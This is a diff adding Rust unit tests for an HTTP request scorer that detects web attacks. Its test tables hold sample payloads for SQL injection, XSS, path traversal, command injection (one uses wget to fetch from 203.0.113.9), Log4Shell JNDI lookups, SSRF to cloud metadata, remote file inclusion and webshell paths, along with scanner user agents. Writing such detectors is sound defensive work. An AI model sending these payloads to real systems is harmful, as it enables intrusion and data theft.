@@ -1,0 +1,166 @@
+use super::*;
+
+fn found(scorer: &mut Scorer, target: &str) -> Vec<Family> {
+    let line = format!("GET {target} HTTP/1.1");
+    let request = Request::from_line(&line).unwrap();
+    scorer.score(&request).iter().map(|finding| finding.family).collect()
+}
+
+#[test]
+fn families_are_found_and_the_ordinary_is_let_go() {
+    let mut scorer = Scorer::default();
+    for (target, family) in [
+        ("/item?id=1%27%20OR%20%271%27=%271", Family::Sqli),
+        ("/item?id=1+UNION+SELECT+user,password+FROM+users--", Family::Sqli),
+        ("/p?q=1;SELECT+pg_sleep(10)--", Family::Sqli),
+        ("/login?user[$gt]=&pass[$ne]=x", Family::Nosql),
+        ("/search?q=<script>fetch(1)</script>", Family::Xss),
+        ("/search?q=%3CScript%3Ealert(1)%3C/script%3E", Family::Xss),
+        ("/search?q=%22%20onmouseover=%22alert(1)", Family::Xss),
+        ("/a?u=%26%23x6a;avascript:alert(1)", Family::Xss),
+        ("/download?file=../../../etc/hosts", Family::Traversal),
+        ("/img/..%2F..%2Fetc%2Fpasswd", Family::Traversal),
+        ("/x/..%c0%af..%c0%afboot.ini", Family::Traversal),
+        ("/view?file=/etc/passwd", Family::Traversal),
+        ("/.env", Family::Traversal),
+        ("/site/.git/config", Family::Traversal),
+        ("/db.sql.gz", Family::Traversal),
+        ("/ping?host=1.1.1.1;cat+/etc/hosts", Family::Rce),
+        ("/ping?host=1.1.1.1%0Awget%20http://203.0.113.9/x", Family::Rce),
+        ("/ping?host=%60id%60", Family::Rce),
+        ("/a?x=php://filter/convert.base64-encode/resource=index", Family::Php),
+        ("/a?x=%3C%3Fphp%20phpinfo();", Family::Php),
+        ("/a?x=O:6:%22Logger%22:1:%7Bs:4:%22file%22;s:1:%22x%22;%7D", Family::Php),
+        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Family::Php),
+        ("/a?x=%25%7B(%23_memberAccess)%7D", Family::Java),
+        ("/a?class.module.classLoader.resources.context.parent=x", Family::Java),
+        ("/a?x=$%7Bjndi:ldap://203.0.113.1/a%7D", Family::Log4shell),
+        ("/?x=${${lower:j}ndi:ldap://x/a}", Family::Log4shell),
+        ("/a?__proto__[admin]=1", Family::Code),
+        ("/a?x=require('child_process').exec('id')", Family::Code),
+        ("/a?name={{7*7}}", Family::Template),
+        ("/a?name=%3C%25=%207*7%20%25%3E", Family::Template),
+        ("/fetch?url=http://169.254.169.254/latest/meta-data/", Family::Ssrf),
+        ("/fetch?url=http://127.0.0.1:6379/", Family::Ssrf),
+        ("/fetch?url=gopher://10.0.0.1:25/_x", Family::Ssrf),
+        ("/a?page=http://203.0.113.9/shell.txt?", Family::Rfi),
+        ("/a?user=*)(uid=*))(%7C(uid=*", Family::Ldap),
+        ("/a?q=x'%5D%20%7C%20//user/node()%5B'a", Family::Xml),
+        ("/a?x=1%0d%0aSet-Cookie:%20a=b", Family::Protocol),
+        ("/a?x=index.php%00.png", Family::Protocol),
+        ("/uploads/c99.php", Family::Webshell),
+        ("/images/shell.php?cmd=id", Family::Webshell),
+    ] {
+        assert!(found(&mut scorer, target).contains(&family), "{target}: {:?}", found(&mut scorer, target));
+    }
+    for target in [
+        "/",
+        "/search?q=black+and+white",
+        "/search?q=o%27neil+%26+sons",
+        "/search?q=what+is+union+select+in+law",
+        "/static/script.js?v=1.2.3",
+        "/docs/../docs/index.html",
+        "/shop?category=cats;sort=price",
+        "/a?utm_source=x&utm_campaign=Feed:+a/b+(a.com+-+Jordan)",
+        "/list?C=D;O=A",
+        "/api/v1/items?fields=id,name&sort=-date&limit=10",
+        "/calc?expr=2%2B2%3D4",
+        "/a?filter[name]=x&filter[tags][]=y",
+        "/p?text=I+like+you!&price=%24100+(net)",
+        "/user/.well-known/change-password",
+        "/.well-known/acme-challenge/abc",
+        "/powershell.html",
+        "/a?redirect=%2Faccount%2Fsettings%3Ftab%3D1",
+        "/a?date=2026-01-01T00:00:00%2B01:00",
+        "/a?q=c%2B%2B+std::string",
+        "/a?json=%7B%22a%22:1,%22b%22:%5B1,2%5D%7D",
+        "/a?q=time+warner+cable",
+        "/a?q=javascript+tutorial",
+        "/a?q=how+to+use+the+python+eval+function",
+        "/a?msg=Don%27t+panic!+It%27s+only+5%25+off",
+        "/select/options/from/menu",
+        "/~user/home.html",
+        "/a?email=first.last%2Btag@example.org",
+        "/a?callback=jQuery123_456&_=789",
+        "/a?name=%D0%98%D0%B2%D0%B0%D0%BD&city=K%C3%B6ln",
+        "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_",
+    ] {
+        assert_eq!(found(&mut scorer, target), [], "{target}");
+    }
+}
+
+#[test]
+fn scanners_name_themselves_and_browsers_do_not() {
+    let mut scorer = Scorer::default();
+    let mut of_agent = |agent: &str| {
+        let request = Request { path: "/".into(), user_agent: Some(agent.into()), ..Request::default() };
+        scorer.score(&request).first().map(|finding| finding.family)
+    };
+    for agent in
+        ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Mozilla/5.0 zgrab/0.x"]
+    {
+        assert_eq!(of_agent(agent), Some(Family::Scanner), "{agent}");
+    }
+    assert_eq!(of_agent("() { :;}; /bin/eject"), Some(Family::Rce));
+    assert_eq!(of_agent("${jndi:ldap://203.0.113.1/a}"), Some(Family::Log4shell));
+    for agent in [
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0 Safari/537.36",
+        "Mozilla/5.0 (Linux;U;Android 4.1;en) GSA/3.2",
+        "curl/7.81.0",
+        "Wget",
+        "python-requests/2.31.0",
+        "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)",
+        "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots",
+        "IrssiUrlLog/0.2",
+        "-",
+    ] {
+        assert_eq!(of_agent(agent), None, "{agent}");
+    }
+}
+
+#[test]
+fn every_signature_compiles_and_names_literals_in_lower_case() {
+    assert_eq!(COMPILED.patterns.len(), SIGNATURES.len());
+    for signature in SIGNATURES {
+        assert!(!signature.needs.is_empty(), "{}", signature.name);
+        assert!(signature.weight > 0 && signature.parts > 0, "{}", signature.name);
+        for need in signature.needs {
+            assert!(!need.is_empty() && *need == need.to_ascii_lowercase(), "{}: {need}", signature.name);
+        }
+    }
+}
+
+/// Which literal opens the gate for which lines (for tuning).
+#[test]
+#[ignore = "prints"]
+fn gate_statistics() {
+    let log = std::fs::read_to_string(std::env::var("ACCESS_LOG").unwrap()).unwrap();
+    let mut counts = std::collections::BTreeMap::new();
+    for line in log.lines() {
+        let Some(request) = Request::from_text(line) else { continue };
+        let parts = [
+            ("path", Some(&request.path), &COMPILED.path_gate, &*SPECIAL_TABLE),
+            ("query", request.query.as_ref(), &COMPILED.query_gate, &*SPECIAL_TABLE),
+            ("agent", request.user_agent.as_ref(), &COMPILED.header_gate, &*HEADER_TABLE),
+        ];
+        for (name, text, gate, table) in parts {
+            let Some(text) = text else { continue };
+            if let Some(found) = gate.find(text.as_ref()) {
+                *counts.entry(format!("{name} {}", text[found.range()].to_lowercase())).or_insert(0) += 1;
+            }
+            if let Some(byte) = text.bytes().find(|byte| table[usize::from(*byte)]) {
+                *counts.entry(format!("{name} byte {:?}", char::from(byte))).or_insert(0) += 1;
+            }
+        }
+        if let Some((_, query)) = request.referer.as_deref().and_then(|text| text.split_once('?')) {
+            if let Some(byte) = query.bytes().find(|byte| SPECIAL_TABLE[usize::from(*byte)]) {
+                *counts.entry(format!("referer byte {:?}", char::from(byte))).or_insert(0) += 1;
+            }
+        }
+    }
+    let mut sorted: Vec<_> = counts.into_iter().collect();
+    sorted.sort_by_key(|(_, count)| std::cmp::Reverse(*count));
+    for (what, count) in sorted.iter().take(40) {
+        println!("{count} {what}");
+    }
+}
